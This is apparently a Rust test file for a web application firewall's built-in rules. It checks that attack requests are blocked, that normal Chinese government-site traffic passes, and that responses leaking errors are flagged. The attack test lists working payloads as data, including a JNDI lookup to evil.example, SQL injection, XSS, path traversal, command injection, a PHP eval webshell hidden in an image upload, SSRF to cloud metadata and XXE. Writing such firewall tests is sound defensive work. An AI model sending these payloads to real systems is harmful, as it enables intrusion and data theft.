//! The built-in rule pack: attacks are blocked by a rule of their class, and ordinary
//! traffic of Chinese government sites (searches, forms, articles, uploads) passes.

use sitegroup_waf::{Engine, Interruption};

struct Req<'a> {
    method: &'a str,
    uri: &'a str,
    headers: Vec<(&'a str, &'a str)>,
    body: &'a [u8],
}

fn get(uri: &str) -> Req<'_> {
    Req {
        method: "GET",
        uri,
        headers: vec![],
        body: b"",
    }
}

fn post<'a>(uri: &'a str, content_type: &'a str, body: &'a [u8]) -> Req<'a> {
    Req {
        method: "POST",
        uri,
        headers: vec![("Content-Type", content_type)],
        body,
    }
}

fn run(engine: &Engine, r: &Req) -> Option<Interruption> {
    let mut tx = engine.transaction();
    tx.process_connection("198.51.100.9", 50000, "10.0.0.1", 80);
    tx.process_uri(r.method.as_bytes(), r.uri.as_bytes(), b"HTTP/1.1");
    tx.add_request_header(b"Host", b"www.demo.localhost");
    tx.add_request_header(
        b"User-Agent",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0",
    );
    for (k, v) in &r.headers {
        tx.add_request_header(k.as_bytes(), v.as_bytes());
    }
    if let Some(i) = tx.process_request_headers() {
        return Some(i);
    }
    if let Some(i) = tx.append_request_body(r.body) {
        return Some(i);
    }
    tx.process_request_body()
}

const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn attacks_are_blocked_by_a_rule_of_their_class() {
    let engine = Engine::builtin();
    let multipart_php = b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a\r\n--b--\r\n";
    let multipart_content = b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"avatar.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a<?php @eval($_POST['x']); ?>\r\n--b--\r\n";
    let cases: Vec<(u32, Req)> = vec![
        (100100, get("/.git/config")),
        (100100, get("/.env")),
        (100100, get("/%2e%73vn/entries")),
        (100101, get("/www.zip")),
        (100101, get("/web.rar")),
        (100101, get("/backup/db_2024.sql")),
        (100101, get("/wp-config.php.bak")),
        (
            100110,
            Req {
                headers: vec![("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
                ..get("/")
            },
        ),
        (100120, get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")),
        (
            100120,
            Req {
                headers: vec![("X-Api-Version", "${${lower:j}ndi:ldap://x/a}")],
                ..get("/")
            },
        ),
        (100200, get("/news?id=1%27%20or%20%271%27%3D%271")),
        (100200, get("/news?id=1%20union%20select%201,2,3--")),
        (100201, get("/news?id=1%20AND%20SLEEP(5)")),
        (100201, get("/news?id=1)%20AND%205678%3D5678%20AND%20(3385%3D3385")),
        (100300, get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        (100301, get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")),
        (100301, post("/comment", FORM, b"url=javascript:alert(document.cookie)")),
        (100400, get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd")),
        (100400, get("/download?file=..%252f..%252fwindows%252fwin.ini")),
        (100401, get("/view?page=php://filter/convert.base64-encode/resource=index")),
        (100500, get("/ping?host=127.0.0.1%3Bwhoami")),
        (100500, get("/ping?host=8.8.8.8%7C%7Cwhoami")),
        (100501, post("/api", FORM, b"x=system($_GET['c'])")),
        (100501, get("/?redirect=%24%7B%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%7D")),
        (100600, post("/upload", "multipart/form-data; boundary=b", multipart_php)),
        (100601, post("/upload", "multipart/form-data; boundary=b", multipart_content)),
        (100700, post("/api", FORM, b"data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ")),
        (100701, post("/api", FORM, b"data=O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}")),
        (100800, get("/fetch?url=http://169.254.169.254/latest/meta-data/")),
        (100800, get("/fetch?url=gopher://127.0.0.1:6379/_INFO")),
        (100800, get("/fetch?url=http://[::1]:8080/admin")),
        (
            100900,
            post(
                "/api/xml",
                "application/xml",
                b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
        ),
    ];
    let mut wrong = Vec::new();
    for (want, req) in &cases {
        match run(&engine, req) {
            // The rule of the right class (1002xx: SQL injection, …) decides.
            Some(i) if i.rule_id / 100 == *want / 100 && i.status == 403 => {}
            other => wrong.push(format!(
                "{} {}: want rule {want}, got {:?}",
                req.method,
                req.uri,
                other.map(|i| (i.rule_id, i.status, i.message))
            )),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn ordinary_chinese_traffic_passes() {
    let engine = Engine::builtin();
    let article = "<p>为深入贯彻落实党的二十大精神，进一步做好冬季安全生产工作，现将有关事项通知如下：</p>\
<p><strong>一、提高认识。</strong>各单位要充分认识做好安全生产工作的重要性和紧迫性（详见附件1-3）。</p>\
<p><img src=\"/uploads/2026/11/photo.jpg\" alt=\"现场检查\" width=\"600\"></p>\
<p>联系人：张三，电话：0571-88888888；邮箱：zhangsan@example.gov.cn。</p>\
<table><tr><td>序号</td><td>单位</td></tr><tr><td>1</td><td>教育局 &amp; 卫健委</td></tr></table>\
<p>引用《中华人民共和国安全生产法》第二十一条：\"生产经营单位的主要负责人……\"</p>";
    let form = format!(
        "title={}&content={}&column=12&tags=%E9%80%9A%E7%9F%A5,%E5%AE%89%E5%85%A8",
        urlencode("关于做好2026年冬季安全生产工作的通知（第3号）"),
        urlencode(article)
    );
    let guestbook = format!(
        "name={}&phone=13800138000&email=li%40example.com&msg={}",
        urlencode("李四"),
        urlencode(
            "你好，请问2026年秋季学期的招生报名时间是什么时候？需要准备哪些材料（户口本、出生证明等）？谢谢！"
        )
    );
    let json = r#"{"keyword":"教育局 招生 政策","page":1,"filters":{"year":"2026","type":["通知","公告"]},"note":"A/B 测试 -- 第二轮; 50% 完成"}"#;
    let upload = b"--b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n\xe5\xb9\xb4\xe5\xba\xa6\xe6\x8a\xa5\xe5\x91\x8a\r\n--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"2026\xe5\xb9\xb4\xe5\xba\xa6\xe6\x8a\xa5\xe5\x91\x8a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 binary data\r\n--b--\r\n";
    let cases: Vec<Req> = vec![
        get("/"),
        get("/news/2026/11/index.html"),
        get("/search?q=%E6%95%99%E8%82%B2%E5%B1%80+%E6%8B%9B%E7%94%9F&page=2"),
        get("/search?q=select+%E8%AF%BE%E7%A8%8B+from+%E5%AD%A6%E6%A0%A1"),
        get("/search?q=%E5%90%8D%E5%8D%95%EF%BC%88%E7%AC%AC1-3%E6%89%B9%EF%BC%89&sort=date"),
        get("/list?column=%E9%80%9A%E7%9F%A5%E5%85%AC%E5%91%8A&year=2026&order=desc"),
        get("/search?q=C%2B%2B+%26+Java+%E5%9F%B9%E8%AE%AD"),
        get(
            "/search?q=%E2%80%9C%E6%94%BE%E7%AE%A1%E6%9C%8D%E2%80%9D%E6%94%B9%E9%9D%A9%20%3D%20%E6%95%88%E7%8E%87",
        ),
        get("/docs/2026-report.pdf"),
        get("/static/js/app.min.js?v=3.2.1"),
        post("/admin/articles/save", FORM, form.as_bytes()),
        post("/guestbook", FORM, guestbook.as_bytes()),
        post("/api/search", "application/json", json.as_bytes()),
        post("/upload", "multipart/form-data; boundary=b", upload),
    ];
    let mut blocked = Vec::new();
    for req in &cases {
        if let Some(i) = run(&engine, req) {
            blocked.push(format!(
                "{} {}: blocked by {} ({})",
                req.method, req.uri, i.rule_id, i.message
            ));
        }
    }
    assert!(
        blocked.is_empty(),
        "false positives:\n{}",
        blocked.join("\n")
    );
}

#[test]
fn builtin_pack_is_in_the_binary_and_compiles() {
    let engine = Engine::builtin();
    let ids = engine.rules().rule_ids();
    assert!(ids.len() >= 20, "{ids:?}");
    assert!(
        ids.iter()
            .all(|id| (100_000..102_000).contains(id) || *id >= 200_000)
    );
}

fn urlencode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[test]
fn leaks_in_responses_are_caught() {
    let engine = Engine::builtin();
    let respond = |body: &[u8]| {
        let mut tx = engine.transaction();
        tx.process_uri(b"GET", b"/news?id=2", b"HTTP/1.1");
        tx.add_request_header(b"Host", b"old.example.gov.cn");
        assert!(tx.process_request_headers().is_none());
        assert!(tx.process_request_body().is_none());
        tx.add_response_header(b"Content-Type", b"text/html; charset=utf-8");
        assert!(tx.process_response_headers(200, b"HTTP/1.1").is_none());
        assert!(tx.wants_response_body());
        tx.append_response_body(body);
        tx.process_response_body()
    };
    let leak = respond(
        b"<html><body>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</body></html>",
    );
    assert_eq!(leak.map(|i| i.rule_id), Some(101_000));
    let trace = respond(
        b"<pre>java.lang.NullPointerException\n\tat com.example.News.show(News.java:42)</pre>",
    );
    assert_eq!(trace.map(|i| i.rule_id), Some(101_000));
    let normal = respond(
        "<html><body><h1>关于数据库安全管理的通知</h1><p>SQL 语句规范见附件。</p></body></html>"
            .as_bytes(),
    );
    assert!(normal.is_none());
}
